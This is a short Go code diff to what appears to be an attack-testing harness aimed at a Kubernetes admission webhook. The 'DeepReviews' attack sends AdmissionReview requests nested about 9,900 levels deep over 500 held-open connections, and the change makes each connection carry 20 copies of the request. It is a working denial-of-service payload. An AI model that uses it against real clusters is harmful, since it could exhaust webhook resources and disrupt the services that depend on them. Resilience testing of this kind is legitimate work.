@@ -131,10 +131,10 @@ func post(body string, missing int) string {
 }
 
 // DeepReviews sends reviews whose objects are nested nearly as deeply as JSON may be, as any pod
-// could, and keeps the connections open.
+// could: many on each of many connections, which it keeps open.
 func DeepReviews() Attack {
 	return Attack{"deep-reviews", func(_ context.Context, t *Tenant, _ *Victim) (Round, error) {
-		const connections, levels = 500, 9900
+		const connections, each, levels = 500, 20, 9900
 		deep := strings.Repeat("[", levels) + strings.Repeat("]", levels)
 		request := post(`{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1",`+
 			`"request":{"uid":"u","kind":{"group":"","version":"v1","kind":"Pod"},"namespace":"made-up","operation":"UPDATE",`+
@@ -142,7 +142,7 @@ func DeepReviews() Attack {
 		return func(ctx context.Context) error {
 			ctx, cancel := context.WithTimeout(ctx, holdHeaders)
 			defer cancel()
-			together(connections, func(int) { t.send(ctx, t.webhook(), request) })
+			together(connections, func(int) { t.send(ctx, t.webhook(), strings.Repeat(request, each)) })
 			return nil
 		}, nil
 	}}
